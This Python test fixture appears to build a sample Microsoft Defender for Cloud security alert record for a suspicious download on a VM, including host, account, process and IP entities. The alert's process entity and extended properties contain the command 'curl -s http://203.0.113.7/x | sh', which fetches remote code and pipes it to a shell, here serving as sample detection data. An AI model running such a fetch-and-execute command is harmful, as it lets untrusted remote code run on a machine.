"""Defender for Cloud continuous export: a security alert; about 2.5 KB."""

from __future__ import annotations

from typing import Any

from tests.examples._base import PORTAL, RESOURCE, SUBSCRIPTION, WORKSPACE_SUBSCRIPTION

IDENTITY = ("SystemAlertId",)
VERSION = ("Status", "ProcessingEndTime")
RESOLVED = {"Status": "Resolved"}


def record(**overrides: Any) -> dict[str, Any]:
    record: dict[str, Any] = {
        "VendorName": "Microsoft",
        "AlertType": "VM_SuspiciousDownload",
        "ProductName": "Microsoft Defender for Cloud",
        "StartTimeUtc": "2026-03-04T10:11:12.1234567Z",
        "EndTimeUtc": "2026-03-04T10:12:00.5Z",
        "TimeGenerated": "2026-03-04T10:13:14.9876543Z",
        "ProcessingEndTime": "2026-03-04T10:13:14.9876543Z",
        "Severity": "High",
        "Status": "New",
        "ProviderAlertStatus": None,
        "ConfidenceLevel": None,
        "ConfidenceScore": None,
        "ConfidenceReasons": None,
        "IsIncident": False,
        "SystemAlertId": "2517000000000000001_0a1b2c3d-1111-4222-8333-444455556666",
        "CorrelationKey": None,
        "Intent": "Persistence, CredentialAccess",
        "AzureResourceId": RESOURCE,
        "WorkspaceId": "22222222-0000-4000-8000-000000000002",
        "WorkspaceSubscriptionId": WORKSPACE_SUBSCRIPTION,
        "WorkspaceResourceGroup": "rg-monitoring",
        "AgentId": None,
        "CompromisedEntity": "shop-vm-1",
        "AlertDisplayName": "Suspicious download by a system account",
        "Description": "A system account fetched and started a file from an address that was "
        "never seen before on this machine.",
        "Entities": [
            {"$id": "2", "HostName": "shop-vm-1", "AzureID": RESOURCE, "Type": "host"},
            {"$id": "3", "Address": "203.0.113.7", "Type": "ip", "Location": {"CountryCode": "NL"}},
            {"$id": "4", "Name": "svc-web", "Host": {"$ref": "2"}, "Type": "account"},
            {
                "$id": "5",
                "ProcessId": "0x1f40",
                "ImageFile": {"$ref": "8"},
                "CommandLine": "curl -s http://203.0.113.7/x | sh",
                "Account": {"$ref": "4"},
                "Host": {"$ref": "2"},
                "Type": "process",
            },
            {
                "$id": "8",
                "Directory": "/usr/bin",
                "Name": "curl",
                "FileHashes": [
                    {"$id": "9", "Algorithm": "MD5", "Value": "0a" * 16, "Type": "filehash"}
                ],
                "Type": "file",
            },
        ],
        "ExtendedLinks": [],
        "ResourceIdentifiers": [
            {
                "$id": "6",
                "AzureResourceId": RESOURCE.lower(),
                "Type": "AzureResource",
                "AzureResourceTenantId": "33333333-0000-4000-8000-000000000003",
            },
            {
                "$id": "7",
                "WorkspaceId": "22222222-0000-4000-8000-000000000002",
                "WorkspaceSubscriptionId": WORKSPACE_SUBSCRIPTION,
                "Type": "LogAnalytics",
            },
        ],
        "RemediationSteps": ["Ask the machine's owner.", "Isolate the machine."],
        "ExtendedProperties": {
            "resourceType": "Virtual Machine",
            "Investigation steps": '{"kind":"Link","value":"https:\\/\\/example.com\\/how"}',
            "Command line": "curl -s http://203.0.113.7/x | sh",
            "Attacker source IP": "203.0.113.7",
            "User Name": "SHOP-VM-1\\svc-web",
        },
        "AlertUri": f"{PORTAL}/Microsoft_Azure_Security/AlertBlade/alertId/2517000000000000001"
        f"/subscriptionId/{SUBSCRIPTION}/resourceGroup/rg-shop/location/westeurope",
    }
    return record | overrides
